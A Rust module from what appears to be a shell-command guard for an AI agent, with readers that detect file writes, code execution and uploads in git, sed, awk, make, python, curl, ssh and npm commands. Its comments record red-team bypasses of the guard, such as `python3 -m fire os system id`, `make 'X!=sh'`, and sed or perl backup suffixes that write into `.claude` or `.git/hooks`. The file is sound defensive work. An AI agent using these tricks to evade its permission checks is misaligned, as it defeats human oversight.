//! Readers for programs whose grammar the program table cannot express: git (global
//! options, subcommands, `config` keys, remote helpers), tar (old-style options, archive
//! and extraction targets), sed and awk scripts, `dd` operands, make overrides, python
//! modules, HTTP methods, ssh options and remote copies, `+COMMAND` words, package
//! installs, and the Rust toolchain (`rust_tools.rs`). Each adds findings to what the
//! table found.

use super::finding::Finding;
use super::programs::Special;
use super::rust_tools;
use super::scan::Scanned;
use super::scripts::{self, ScriptEffects};
use super::{ShellArg, archives, subcommands, tool_readers};
use super::{gh, git};

/// Whether the command runs a named module rather than reading code (`python -m`).
pub(super) fn runs_module(special: Option<Special>, scanned: &Scanned) -> bool {
    special == Some(Special::Python) && scanned.has(&["-m"])
}

/// Whether the module a Python command runs is a plain tool ([`PLAIN_MODULES`],
/// [`TOOL_MODULES`]): not code of the project's or a package's, which may reach anything.
pub(super) fn runs_plain_module(special: Option<Special>, scanned: &Scanned) -> bool {
    special == Some(Special::Python)
        && scanned.values(&["-m"]).any(|m| m.is_known() && is_plain_module(&m.text))
}

fn is_plain_module(name: &str) -> bool {
    PLAIN_MODULES.contains(&name) || TOOL_MODULES.contains(&name)
}

/// Whether the module a Python command runs is the project's test runner (`-m unittest`
/// imports and runs the project's tests, as `pytest` does).
pub(super) fn runs_project_tests(special: Option<Special>, scanned: &Scanned) -> bool {
    special == Some(Special::Python) && scanned.values(&["-m"]).any(|m| m.text == "unittest")
}

/// Python modules that are tools, not a way to run arbitrary code.
/// (Not `doctest`: it runs the `>>>` lines of the file it is given.)
const PLAIN_MODULES: [&str; 7] =
    ["unittest", "venv", "json.tool", "py_compile", "compileall", "pydoc", "tabnanny"];

/// Python modules that are the programs of the same name in the table: `python3 -m
/// black FILE` is `black FILE`, which the analyser adds as a command of its own
/// (`unwrap/python.rs`) for its table entry to judge.
pub(super) const TOOL_MODULES: [&str; 12] = [
    "pytest", "mypy", "black", "ruff", "isort", "flake8", "pip", "pyright", "uv", "poetry", "pipx",
    "gzip",
];

/// Adds the findings of a special reader.
pub(super) fn read(
    kind: Special,
    program: &str,
    words: &[ShellArg],
    scanned: &Scanned,
    in_place: bool,
    out: &mut Vec<Finding>,
) {
    match kind {
        Special::Git => git::read(words, out),
        Special::Cargo => rust_tools::read(true, words, scanned, out),
        Special::Rustc => rust_tools::read(false, words, scanned, out),
        Special::Tar => archives::tar(scanned, out),
        Special::Unzip => archives::unzip(scanned, out),
        Special::Patch => archives::patch(scanned, out),
        Special::Compressor => archives::compressor(program, scanned, out),
        Special::Extractor => archives::extractor(program, words, scanned, out),
        Special::Pytest => tool_readers::pytest(scanned, out),
        Special::Gh => gh::read(scanned, out),
        Special::OptionsFiles => tool_readers::options_files(scanned, out),
        Special::Cloc => tool_readers::cloc(scanned, out),
        Special::File => tool_readers::file(scanned, out),
        Special::Eslint => tool_readers::eslint(scanned, out),
        Special::Sed => {
            sed(scanned, in_place, out);
            sed_backups(words, scanned, out);
        }
        Special::Awk => awk(scanned, out),
        Special::Dd => {
            for word in &scanned.positionals {
                if let Some(path) = word.text.strip_prefix("of=") {
                    let raw = word.raw.strip_prefix("of=").unwrap_or(&word.raw).to_owned();
                    out.push(Finding::Writes(ShellArg {
                        text: path.to_owned(),
                        raw,
                        ..word.clone()
                    }));
                } else if !word.is_known() && word.text.is_empty() {
                    out.push(Finding::Writes(word.clone()));
                }
            }
        }
        Special::Zip => {
            // `-m` deletes what it archives; with `-@` the names come from standard input.
            if scanned.has_abbreviated(&["-m", "--move"])
                && scanned.has_abbreviated(&["-@", "--names-stdin"])
            {
                out.push(Finding::Writes(ShellArg {
                    raw: "the files named on standard input (deleted by -m)".to_owned(),
                    expansion: true,
                    ..ShellArg::default()
                }));
            }
        }
        Special::Node => tool_readers::node(scanned, out),
        Special::Deno => tool_readers::deno(scanned, out),
        Special::Tsc => tool_readers::tsc(scanned, out),
        Special::Perl => perl_backups(words, scanned, out),
        Special::Cc => super::cc::read(program, words, out),
        Special::Go => go(words, scanned, out),
        Special::Make => {
            // A makefile read from standard input is code the line does not show.
            if let Some(file) = scanned
                .values(&["-f", "--file", "--makefile"])
                .find(|f| f.expansion || super::spellings::is_standard_input(&f.text))
            {
                out.push(Finding::RunsCode(format!(
                    "the makefile `{}` is read from standard input or built at run time",
                    file.raw
                )));
            }
            for word in &scanned.positionals {
                make_variable(word, out);
            }
        }
        Special::Python => {
            tool_readers::warning_filters(scanned.values(&["-W"]), out);
            // `-X pycache_prefix=DIR` writes the bytecode tree under DIR.
            for option in scanned.values(&["-X"]) {
                if let Some(dir) = option.text.strip_prefix("pycache_prefix=") {
                    out.push(Finding::Writes(ShellArg { text: dir.to_owned(), ..option.clone() }));
                }
            }
            // A script that is a module of Python's library or an installed tool's entry
            // (`/usr/lib/python3.11/timeit.py CODE`, `/usr/bin/pip3 install X`) is that
            // module or tool run by `-m`; only plain ones are let through.
            if !scanned.has(&["-m", "-c"])
                && let Some(script) = scanned.positionals.first()
                && let Some(module) = library_module(&script.text)
                && !PLAIN_MODULES.contains(&module.as_str())
            {
                out.push(Finding::RunsCode(format!(
                    "`{}` is the module `{module}` of Python's library",
                    script.raw
                )));
            }
            for module in scanned.values(&["-m"]) {
                let args = &scanned.positionals;
                let name = module.text.as_str();
                // A module of Python's library (or a known code runner's) may take code
                // from its arguments (`timeit`, `pickle`, `coverage run`); any other is the
                // project's or an installed package's, a program the table does not know
                // (round 26, hooks FP1: `python3 -m app.cli` was refused as code on the
                // command line; round 28, hooks H4: taken for a script, `python3 -m fire os
                // system id` ran).
                let plain = is_plain_module(name);
                if !module.is_known() || (!plain && super::python_modules::runs_given_code(name)) {
                    out.push(Finding::RunsCode(format!("module `{}`", module.raw)));
                } else if !plain {
                    out.push(Finding::Unlisted(format!("the module `{}`", module.raw)));
                }
                match module.text.as_str() {
                    // `json.tool [--indent N] IN OUT` writes OUT: every word after the first
                    // may be it (an option's value shifts them).
                    "json.tool" => out.extend(args.iter().skip(1).cloned().map(Finding::Writes)),
                    // `venv DIR` makes DIR; `compileall PATH`, `py_compile FILE` write
                    // `__pycache__` beside what they compile.
                    "venv" | "compileall" | "py_compile" => out.extend(
                        args.iter()
                            .filter(|a| !a.text.starts_with('-'))
                            .cloned()
                            .map(Finding::Writes),
                    ),
                    // `zipfile -e ZIP DIR`, `tarfile -e TAR [DIR]` (red team round 15): the
                    // archive's members under DIR (the working directory), `../` ones too.
                    "zipfile" | "tarfile"
                        if scanned.has(&["-e", "--extract"])
                            || args
                                .iter()
                                .any(|a| matches!(a.text.as_str(), "-e" | "--extract")) =>
                    {
                        let operands: Vec<&ShellArg> =
                            args.iter().filter(|a| !a.text.starts_with('-')).collect();
                        match operands.get(1) {
                            Some(dir) => {
                                out.push(Finding::WritesUnder(ShellArg::known("."), (*dir).clone()))
                            }
                            None => out.push(Finding::Writes(ShellArg::known("."))),
                        }
                        out.push(archives::unnamed_members());
                    }
                    _ => {}
                }
            }
        }
        Special::HttpClient | Special::Curl => {
            // A URL built at run time can carry data out (`https://x/?d=$(cat secret)`).
            let mut urls = scanned.positionals.iter().chain(scanned.values(&["--url"]));
            if let Some(url) = urls.find(|u| u.expansion) {
                out.push(Finding::Uploads(format!("the URL `{}` is built at run time", url.raw)));
            }
            // `-H @FILE` sends each line of FILE as a header; `telnet://` and the like send
            // standard input (`curl telnet://host:25 < secrets`).
            for header in scanned.values(&["-H", "--header", "--proxy-header"]) {
                if !header.is_known() || header.text.starts_with('@') {
                    out.push(Finding::Uploads(format!("the headers `{}`", header.raw)));
                }
            }
            if kind == Special::Curl {
                super::curl::read(scanned, out);
            } else {
                super::wgetrc::read(scanned, out);
            }
            super::downloads::read(kind, scanned, out);
            let mut urls = scanned.positionals.iter().chain(scanned.values(&["--url"]));
            if let Some(url) = urls.find(|u| {
                let lower = u.text.to_ascii_lowercase();
                lower.split_once("://").is_some_and(|(scheme, _)| {
                    !matches!(scheme, "http" | "https" | "ftp" | "ftps" | "file")
                })
            }) {
                out.push(Finding::Uploads(format!("the URL `{}` sends what it reads", url.raw)));
            }
            for method in scanned.values(&["-X", "--request", "--method"]) {
                let upper = method.text.to_ascii_uppercase();
                if !method.is_known() || !matches!(upper.as_str(), "GET" | "HEAD" | "OPTIONS") {
                    out.push(Finding::Uploads(format!("method `{}`", method.raw)));
                }
            }
        }
        Special::Ssh => ssh_options(scanned, out),
        Special::RemoteCopy => remote_copy(scanned, in_place, out),
        Special::PlusCommand => {
            // vim reads its keys from standard input when that is no terminal (an agent's
            // shell never has one): `vim x <<< ':!rm -rf /'` runs the command.
            if matches!(program, "vim" | "vi" | "nvim" | "view" | "vimdiff" | "gvim" | "rvim") {
                out.push(Finding::RunsCode(
                    "vim reads its commands from standard input when that is no terminal"
                        .to_owned(),
                ));
            }
            for word in scanned.positionals.iter().filter(|w| w.text.starts_with('+')) {
                let command = word.text.get(1..).unwrap_or_default();
                let search = command.starts_with(['/', '?']) && !command.contains(['!', '|']);
                let plain = command.chars().all(|c| c.is_ascii_digit())
                    || matches!(command, "F" | "G" | "g");
                if !(word.is_known() && (search || plain)) {
                    out.push(Finding::RunsCode(format!(
                        "`{}` runs an editor or pager command",
                        word.raw
                    )));
                }
            }
        }
        Special::PackageManager => {
            // Canonical npm names, and the aliases of yarn, pnpm and bun.
            const INSTALL: [&str; 11] = [
                "install",
                "i",
                "add",
                "isntall",
                "in",
                "update",
                "up",
                "upgrade",
                "link",
                "install-test",
                "install-ci-test",
            ];
            let sub = subcommands::words(program, &scanned.positionals).unwrap_or_default();
            // `yarn global add PKG`: the namespace's subcommand, then packages.
            if sub.iter().any(|s| INSTALL.contains(&s.as_str()))
                && scanned.positionals.len() > sub.len()
                && !scanned.has(&["--ignore-scripts"])
            {
                out.push(Finding::RunsCode(format!(
                    "`{}` with packages runs their install scripts",
                    sub.join(" ")
                )));
            }
            // `npm pack SPEC` and `npm diff --diff=SPEC` of a directory, a git repository
            // or a tarball prepare that package first, running its `prepare` script
            // (pacote; red team round 31, shell F8). A registry name (`@scope/pkg@1`) does
            // not.
            let from_source = |spec: &ShellArg| {
                let text = spec.text.as_str();
                let registry_scoped =
                    text.starts_with('@') && text.matches('/').count() == 1 && !text.contains(':');
                !spec.is_known()
                    || (text.contains(['/', ':', '\\']) && !registry_scoped)
                    || text.starts_with('.')
                    || text.ends_with(".tgz")
                    || text.ends_with(".tar.gz")
            };
            let specs: Vec<&ShellArg> = match sub.first().map(String::as_str) {
                Some("pack") => scanned.positionals.iter().skip(sub.len()).collect(),
                Some("diff") => scanned.values(&["--diff"]).collect(),
                _ => Vec::new(),
            };
            if let Some(spec) = specs.into_iter().find(|spec| from_source(spec)) {
                out.push(Finding::RunsCode(format!(
                    "`{}` of `{}` runs that package's prepare script",
                    sub.join(" "),
                    spec.raw
                )));
            }
            // `-g`, `--global`, `--location=global`, `yarn global ...`, and a bare `npm
            // link` (this package into the global prefix): the global prefix is written, a
            // directory only known at run time (npm's configuration, the environment).
            const CHANGES: [&str; 8] =
                ["uninstall", "remove", "rm", "r", "un", "unlink", "prune", "dedupe"];
            let changes =
                sub.iter().any(|s| INSTALL.contains(&s.as_str()) || CHANGES.contains(&s.as_str()));
            let global = scanned.has(&["-g", "--global"])
                || scanned.values(&["--location"]).any(|v| !v.is_known() || v.text == "global")
                || sub.first().is_some_and(|s| s == "global");
            let bare_link =
                sub.last().is_some_and(|s| s == "link") && scanned.positionals.len() == sub.len();
            if (changes && global) || bare_link {
                out.push(Finding::Writes(ShellArg {
                    raw: "the global package prefix".to_owned(),
                    expansion: true,
                    ..ShellArg::default()
                }));
            }
            if program == "npm" && sub.first().is_some_and(|s| s == "pkg") {
                tool_readers::npm_pkg(scanned, out);
            }
        }
    }
}

/// go's flags for the tools it runs and for test binaries: the linker's `-extld` and
/// `-extar` (and gccgo's `-Wl,`) name a program it runs; `-o`, profiles, `-tmpdir` and
/// `-asmhdr` in `-ldflags`, `-gcflags` and `-asmflags` write where they name; a test
/// binary's own flags (`-test.cpuprofile=F`, given to `go test` or after `-args`) too.
fn go(words: &[ShellArg], scanned: &Scanned, out: &mut Vec<Finding>) {
    // Besides any `...profile`.
    const TOOL_WRITES: [&str; 7] =
        ["o", "tmpdir", "asmhdr", "trace", "linkobj", "capturehostobjs", "bench"];
    const TEST_WRITES: [&str; 10] = [
        "cpuprofile",
        "memprofile",
        "blockprofile",
        "mutexprofile",
        "coverprofile",
        "trace",
        "outputdir",
        "fuzzcachedir",
        "testlogfile",
        "gocoverdir",
    ];
    let write = |value: Option<&str>, word: &ShellArg, out: &mut Vec<Finding>| {
        let (text, expansion) = value.map_or((String::new(), true), |v| (v.to_owned(), false));
        out.push(Finding::Writes(ShellArg {
            text,
            raw: word.raw.clone(),
            expansion: expansion || word.expansion,
            ..word.clone()
        }));
    };
    // `go clean -cache` (and `-modcache`, `-fuzzcache`, `-i`) removes files under the
    // home directory or the install directory.
    if scanned.positionals.first().is_some_and(|p| p.text == "clean")
        && scanned.has(&["-cache", "-modcache", "-fuzzcache", "-i"])
    {
        out.push(Finding::Writes(ShellArg {
            raw: "go's caches and installed packages (go clean)".to_owned(),
            expansion: true,
            ..ShellArg::default()
        }));
    }
    // gccgo's flags are gcc's: any of them may run a program (`-B`, `@FILE`).
    if let Some(flags) = scanned.values(&["-gccgoflags"]).next() {
        out.push(Finding::RunsCode(format!("`-gccgoflags {}` passes options to gcc", flags.raw)));
    }
    for flags in scanned.values(&["-ldflags", "-gcflags", "-asmflags"]) {
        if !flags.is_known() {
            out.push(Finding::RunsCode(format!(
                "the tool flags `{}` are only known at run time",
                flags.raw
            )));
            continue;
        }
        // cmd/go splits the value into fields as a shell would, quotes removed.
        // A package pattern comes first (`-ldflags=all="-extld=x"`), then the flags.
        let text = match flags.text.split_once('=') {
            Some((pattern, rest))
                if !pattern.starts_with('-') && !pattern.contains(['"', '\'', ' ']) =>
            {
                rest
            }
            _ => flags.text.as_str(),
        };
        let fields = go_fields(text);
        let mut tokens = fields.iter().map(String::as_str);
        while let Some(token) = tokens.next() {
            // A word that is no flag is the value of the one before, read with it.
            let Some(option) = token.strip_prefix('-') else { continue };
            let option = option.strip_prefix('-').unwrap_or(option);
            let (name, value) =
                option.split_once('=').map_or((option, None), |(n, v)| (n, Some(v)));
            // `-extldflags` are flags for the external linker (gcc), `-extld` and `-extar`
            // name the programs run.
            if name == "extldflags" {
                let passed = value.or_else(|| tokens.next()).unwrap_or_default();
                const RUNS: [&str; 7] =
                    ["-B", "@", "plugin", "wrapper", "specs", "-fuse-ld", "--prefix"];
                if RUNS.iter().any(|r| passed.contains(r)) || passed.contains("-Wl") {
                    out.push(Finding::RunsCode(format!(
                        "the external linker's flags in `{}` may run a program",
                        flags.raw
                    )));
                }
            } else if name.starts_with("ext") || token.starts_with("-Wl") || name.contains("plugin")
            {
                out.push(Finding::RunsCode(format!(
                    "the tool flags `{}` name a program the linker runs",
                    flags.raw
                )));
            } else if name == "json" {
                // `-json=0,file:///DIR` writes there; without `file://`, standard error.
                let value = value.or_else(|| tokens.next()).unwrap_or_default();
                if let Some((_, dir)) = value.split_once("file://") {
                    write(Some(dir), flags, out);
                }
            } else if TOOL_WRITES.contains(&name) || name.ends_with("profile") {
                let value = value.or_else(|| tokens.next());
                write(value, flags, out);
            }
        }
    }
    let mut rest = words.iter();
    while let Some(word) = rest.next() {
        let Some(option) =
            word.text.strip_prefix("-test.").or_else(|| word.text.strip_prefix("--test."))
        else {
            continue;
        };
        let (name, value) = option.split_once('=').map_or((option, None), |(n, v)| (n, Some(v)));
        if TEST_WRITES.contains(&name) {
            let value = value.or_else(|| rest.next().map(|w| w.text.as_str()));
            write(value, word, out);
        }
    }
}

/// A go tool-flags value split into fields as cmd/go splits it: at white space outside
/// quotes, each field's quotes removed (`-ldflags='-s "-extld=x"'`).
fn go_fields(text: &str) -> Vec<String> {
    let mut fields = Vec::new();
    let mut field = String::new();
    let mut quote = None;
    let mut started = false;
    for c in text.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => field.push(c),
            // A quote opens only at a field's start (cmd/go's `quoted.Split`).
            None if (c == '\'' || c == '"') && !started => {
                quote = Some(c);
                started = true;
            }
            None if c.is_whitespace() => {
                if started {
                    fields.push(std::mem::take(&mut field));
                    started = false;
                }
            }
            None => {
                field.push(c);
                started = true;
            }
        }
    }
    if started {
        fields.push(field);
    }
    fields
}

fn sed(scanned: &Scanned, in_place: bool, out: &mut Vec<Finding>) {
    let mut scripts: Vec<&ShellArg> = scanned.values(&["-e", "--expression"]).collect();
    // A script file (`-f FILE`, `-f /dev/stdin`) is not on the line: its `w FILE` commands
    // write what only it names (red team round 15).
    let script_files = scanned.has(&["-f", "--file"]);
    if script_files {
        out.push(archives::run_time("the files the script file's `w` commands name".to_owned()));
    }
    let files: Vec<&ShellArg> = if scripts.is_empty() && !script_files {
        let mut positionals = scanned.positionals.iter();
        scripts.extend(positionals.next());
        positionals.collect()
    } else {
        scanned.positionals.iter().collect()
    };
    for script in scripts {
        if !script.is_known() {
            out.push(Finding::RunsCode(format!(
                "the script `{}` is only known at run time",
                script.raw
            )));
            continue;
        }
        script_findings(&scripts::sed(&script.text), out);
    }
    if in_place {
        out.extend(files.into_iter().map(|f| Finding::Writes(f.clone())));
    }
}

/// GNU sed's `-i[SUFFIX]` (`--in-place[=SUFFIX]`) keeps a backup of each file: the file's
/// name with the suffix after it (`-i.bak`: `a.txt.bak`), or, when the suffix has a `*`,
/// the suffix with each `*` the file's name, as written or its last part (`-i'/outside/*'`
/// writes `/outside/a.txt`; `-i'.cl*'` on `aude/x` writes `.claude/x`). Each is a write;
/// one only known at run time is refused.
fn sed_backups(words: &[ShellArg], scanned: &Scanned, out: &mut Vec<Finding>) {
    let mut suffixes = Vec::new();
    for word in words {
        let text = &word.text;
        // `--in-place=SUFFIX`, or any abbreviation of it (`--in=`, `--i=`).
        if let Some((name, suffix)) = text.strip_prefix("--").and_then(|o| o.split_once('='))
            && !name.is_empty()
            && "in-place".starts_with(name)
        {
            suffixes.push((suffix.to_owned(), word));
        } else if let Some(cluster) = text.strip_prefix('-').filter(|c| !c.starts_with('-'))
            && let Some((_, suffix)) = cluster.split_once('i')
            && !suffix.is_empty()
        {
            // Letters after `i` in a cluster are its suffix (`-ni.bak`).
            suffixes.push((suffix.to_owned(), word));
        }
    }
    // The first positional is the script, unless an option gave it (`sed -n -e p
    // -i'/root/*' bash`): then every positional is a file whose backup is written.
    let script_given = scanned.has_abbreviated(&["-e", "--expression", "-f", "--file"]);
    let files: Vec<&ShellArg> =
        scanned.positionals.iter().skip(usize::from(!script_given)).collect();
    backups(suffixes, &files, out);
}

/// perl's and ruby's `-i[SUFFIX]`, alone or after other letters of a cluster (`-pi.bak`,
/// `-pi'.git/hooks/*'`), takes the rest of the cluster as its suffix, as sed's does
/// (red team round 27, hooks K1); the letters that take a value (`-e CODE`, `-Mstrict`)
/// end a cluster before it. Every operand's backup is judged, the script's too: a
/// script named by position is not edited, and judging it only adds a write.
fn perl_backups(words: &[ShellArg], scanned: &Scanned, out: &mut Vec<Finding>) {
    let suffix = |text: &str| -> Option<String> {
        let cluster = text.strip_prefix('-').filter(|c| !c.starts_with('-'))?;
        let mut chars = cluster.chars();
        while let Some(c) = chars.next() {
            if c == 'i' {
                return Some(chars.as_str().to_owned()).filter(|s| !s.is_empty());
            }
            if "eEIMmdDCFx".contains(c) {
                return None;
            }
        }
        None
    };
    let suffixes = words.iter().filter_map(|w| Some((suffix(&w.text)?, w))).collect();
    let files: Vec<&ShellArg> = scanned.positionals.iter().collect();
    backups(suffixes, &files, out);
}

/// The backups `-i SUFFIX` keeps of `files`: each file's name with the suffix after it, or,
/// when the suffix has a `*`, the suffix with each `*` the file's name, as written or its
/// last part. A suffix only known at run time may be any path.
fn backups(suffixes: Vec<(String, &ShellArg)>, files: &[&ShellArg], out: &mut Vec<Finding>) {
    for (suffix, word) in suffixes {
        if word.expansion || word.pattern {
            out.push(Finding::RunsCode(format!(
                "the backup suffix of `{}` is only known at run time",
                word.raw
            )));
            continue;
        }
        for file in files {
            let name = file.text.rsplit('/').next().unwrap_or_default();
            let backups = if suffix.contains('*') {
                vec![suffix.replace('*', name), suffix.replace('*', &file.text)]
            } else {
                vec![format!("{}{suffix}", file.text)]
            };
            for backup in backups {
                out.push(Finding::Writes(ShellArg::known(&backup)));
            }
        }
    }
}

fn awk(scanned: &Scanned, out: &mut Vec<Finding>) {
    // gawk's own `inplace` library (`-i inplace`) rewrites each input file; the program is
    // still the first operand.
    let includes: Vec<&ShellArg> = scanned.values(&["-i", "--include"]).collect();
    let in_place = !includes.is_empty()
        && includes
            .iter()
            .all(|i| i.is_known() && matches!(i.text.as_str(), "inplace" | "inplace.awk"));
    if in_place {
        out.extend(scanned.positionals.iter().skip(1).cloned().map(Finding::Writes));
    }
    // A program read from a file or a library (`-f FILE`, `-f /dev/stdin`) is not on the
    // line: its `print > FILE` writes what only it names (red team round 15).
    let libraries = !in_place && !includes.is_empty();
    if libraries || scanned.has(&["-f", "--file", "-l", "--load", "-E", "--exec"]) {
        out.push(archives::run_time("the files the program file's `print >` names".to_owned()));
        return;
    }
    // gawk's `-e TEXT` (`--source`) is program text on the line.
    let sources: Vec<&ShellArg> = scanned.values(&["-e", "--source"]).collect();
    let operands = scanned.positionals.get(usize::from(sources.is_empty())..).unwrap_or_default();
    let context = awk_context(scanned, operands);
    // An input file named `/inet/...` is a connection (round 21).
    if let Some(network) = operands.iter().find(|o| o.text.contains("/inet")) {
        out.push(Finding::Uploads(format!("`{}` is gawk's network connection", network.raw)));
    }
    if !sources.is_empty() {
        for source in sources {
            if !source.is_known() {
                out.push(Finding::RunsCode(format!(
                    "the program `{}` is only known at run time",
                    source.raw
                )));
                continue;
            }
            script_findings(&scripts::awk(&source.text, &context), out);
        }
        return;
    }
    let Some(program) = scanned.positionals.first() else { return };
    if !program.is_known() {
        out.push(Finding::RunsCode(format!(
            "the program `{}` is only known at run time",
            program.raw
        )));
        return;
    }
    script_findings(&scripts::awk(&program.text, &context), out);
}

/// What awk's command line tells of its program's names: the variables `-v NAME=VALUE`
/// gives a literal value that is no network name (an operand `NAME=VALUE` assigns later,
/// between files: not counted), and whether every input file is known and no network name.
fn awk_context(scanned: &Scanned, operands: &[ShellArg]) -> scripts::AwkContext {
    // The last assignment of a name is its value; awk decodes escapes in it (`\057inet`
    // is `/inet`: second pass, N-01), so a value with one is not taken as written.
    let mut last: Vec<(&str, bool)> = Vec::new();
    for value in scanned.values(&["-v", "--assign"]) {
        let Some((name, text)) = value.text.split_once('=') else { continue };
        let literal = value.is_known() && !text.contains("/inet") && !text.contains('\\');
        last.retain(|(n, _)| *n != name);
        last.push((name, literal));
    }
    // An operand `NAME=VALUE` assigns between input files: the name is not what `-v` said.
    let reassigned: Vec<&str> = operands
        .iter()
        .filter_map(|o| o.text.split_once('=').map(|(name, _)| name))
        .filter(|name| {
            name.chars().next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
        .collect();
    let literal_variables = last
        .into_iter()
        .filter(|(name, literal)| *literal && !reassigned.contains(name))
        .map(|(name, _)| name.to_owned())
        .collect();
    let inputs_known = operands
        .iter()
        .all(|o| o.is_known() && !o.text.contains("/inet") && !o.text.contains('\\'));
    scripts::AwkContext { literal_variables, inputs_known }
}

fn script_findings(effects: &ScriptEffects, out: &mut Vec<Finding>) {
    if let Some(why) = &effects.runs_code {
        out.push(Finding::RunsCode(why.clone()));
    }
    if effects.network {
        out.push(Finding::Uploads("its script opens network connections".to_owned()));
    }
    for file in &effects.writes {
        out.push(Finding::Writes(match file {
            Some(path) => ShellArg::known(path),
            None => ShellArg {
                raw: "a file named at run time".to_owned(),
                expansion: true,
                ..ShellArg::default()
            },
        }));
    }
}

/// `ssh -o` (also `scp -o`) options that run a local command or read more configuration.
fn ssh_options(scanned: &Scanned, out: &mut Vec<Finding>) {
    const CODE_OPTIONS: [&str; 8] = [
        "proxycommand",
        "localcommand",
        "permitlocalcommand",
        "knownhostscommand",
        "match",
        "include",
        "pkcs11provider",
        "securitykeyprovider",
    ];
    for option in scanned.values(&["-o"]) {
        let key =
            option.text.split(['=', ' ', '\t']).next().unwrap_or_default().to_ascii_lowercase();
        if !option.is_known() || CODE_OPTIONS.contains(&key.as_str()) {
            out.push(Finding::RunsCode(format!("ssh option `{}`", option.raw)));
        }
    }
}

fn remote_copy(scanned: &Scanned, in_place: bool, out: &mut Vec<Finding>) {
    ssh_options(scanned, out);
    for shell in scanned.values(&["-e", "--rsh"]) {
        let plain_ssh = shell.is_known()
            && shell.text.split_whitespace().next() == Some("ssh")
            && !shell.text.contains(['-', ';', '|', '&', '$', '`', '(', '<', '>'])
            || shell.is_known() && shell.text == "ssh";
        if !plain_ssh {
            out.push(Finding::RunsCode(format!("remote shell `{}`", shell.raw)));
        }
    }
    let positionals = &scanned.positionals;
    // `rsync --read-batch=FILE DEST` applies a recorded transfer to its one operand.
    if positionals.len() < 2 && !(positionals.len() == 1 && scanned.has(&["--read-batch"])) {
        return;
    }
    let (Some(destination), sources) =
        (positionals.last(), positionals.get(..positionals.len() - 1).unwrap_or_default())
    else {
        return;
    };
    if is_remote(destination) {
        out.push(Finding::Uploads(format!("copies to the remote `{}`", destination.raw)));
    } else {
        out.push(Finding::Writes(destination.clone()));
    }
    // A glob last may become no word (`nullglob`): then the operand before it is the
    // destination, so every local operand may be written (red team round 20, N06, as
    // `guard.rs` reads a table writer's last operand).
    if destination.pattern && !in_place {
        out.extend(sources.iter().filter(|s| !is_remote(s)).map(|s| Finding::Writes(s.clone())));
    }
    if in_place {
        out.extend(sources.iter().filter(|s| !is_remote(s)).map(|s| Finding::Writes(s.clone())));
    }
}

/// `host:path`, `user@host:path` or `rsync://...` (a `:` before any `/`).
fn is_remote(word: &ShellArg) -> bool {
    let text = &word.text;
    text.starts_with("rsync://")
        || text.find(':').is_some_and(|colon| text.find('/').is_none_or(|slash| colon < slash))
}

/// The module a script path runs when it is a file of Python's library, its installed
/// packages or an entry script beside the interpreter: `lib/python3.11/http/server.py` is
/// `http.server`, `.../site-packages/pip/__main__.py` is `pip`, `/usr/bin/pip3` is `pip3`.
fn library_module(path: &str) -> Option<String> {
    let marker = ["/site-packages/", "/dist-packages/"]
        .into_iter()
        .find_map(|m| path.find(m).map(|at| path.get(at + m.len()..).unwrap_or_default()));
    let inside = marker.or_else(|| {
        let at = path.find("/lib/python").or_else(|| path.find("/lib64/python"))?;
        let rest = path.get(at + 1..)?;
        rest.split_once('/').and_then(|(_, after)| after.split_once('/')).map(|(_, m)| m)
    });
    if let Some(module) = inside {
        let module = module.strip_suffix(".py").unwrap_or(module);
        let module = module.strip_suffix("/__main__").unwrap_or(module);
        let module = module.strip_suffix("/__init__").unwrap_or(module);
        return (!module.is_empty()).then(|| module.replace('/', "."));
    }
    // An entry script in a `bin` directory: the tool of that name.
    let (dir, name) = path.rsplit_once('/')?;
    (dir.ends_with("/bin")
        && TOOL_MODULES
            .iter()
            .any(|t| name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') == *t))
    .then(|| name.to_owned())
}

/// A make variable `NAME=VALUE` given on make's command line, or in its environment (make
/// takes every environment variable as a make variable: red team round 20, F12): what the
/// recipes would run or write with it.
pub(super) fn make_variable(word: &ShellArg, out: &mut Vec<Finding>) {
    const SHELL_VARIABLES: [&str; 7] =
        ["SHELL", ".SHELLFLAGS", "MAKESHELL", "MAKEFLAGS", "MFLAGS", "MAKEFILES", "MAKE"];
    let Some((name, value)) = word.text.split_once('=') else { return };
    // `NAME != COMMAND` runs COMMAND in the shell as make reads it, whatever it is
    // (`make 'X!=sh' < script`: red team round 31, shell F6).
    if name.ends_with('!') {
        out.push(Finding::RunsCode(format!(
            "the make assignment `{}` runs its value in the shell",
            word.raw
        )));
        return;
    }
    let name = name.trim_end_matches([':', '+', '?']);
    // Blanks only separate words, which compiler flags are judged as.
    let flags = name.ends_with("FLAGS");
    let metacharacters = value
        .contains([';', '|', '&', '$', '`', '(', ')', '<', '>', '#', '\\', '\n'])
        || (!flags && value.contains(char::is_whitespace));
    if SHELL_VARIABLES.contains(&name) || metacharacters || word.expansion {
        out.push(Finding::RunsCode(format!(
            "the make variable `{}` reaches recipes run by the shell",
            word.raw
        )));
    } else if is_install_directory(name) {
        // `make install PREFIX=/usr/local`, `DESTDIR=...`: where it installs.
        out.push(Finding::Writes(ShellArg {
            text: value.to_owned(),
            raw: word.raw.clone(),
            ..word.clone()
        }));
    } else if make_override_runs_code(name, value) {
        out.push(Finding::RunsCode(format!(
            "the make variable `{}` names a program or options the recipes run",
            word.raw
        )));
    }
}

/// Whether a make override `NAME=VALUE` (no shell syntax in it) makes the recipes run a
/// program or load code of the caller's choosing: compiler flags that load code
/// (`CFLAGS=-fplugin=F`, `LDFLAGS=-Wl,-plugin,F`), or a path outside the project
/// (`CC=/tmp/x`, `RM=/tmp/x`, `NPM=/tmp/x`: any variable a recipe may run). A bare
/// program name (`CC=clang`) is one from the system's path; a relative path is the
/// project's own.
fn make_override_runs_code(name: &str, value: &str) -> bool {
    if name.ends_with("FLAGS") {
        let judged = if name.starts_with("RUST") { name } else { "CFLAGS" };
        return !super::variable_values::harmless(judged, Some(&ShellArg::known(value)));
    }
    !value.is_empty() && !super::variable_values::inside_project(value)
}

/// `PREFIX`, `DESTDIR`, `BINDIR`, ...: a directory a makefile installs into.
fn is_install_directory(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    upper == "PREFIX" || upper == "DESTDIR" || (upper.ends_with("DIR") && upper.len() > 3)
}
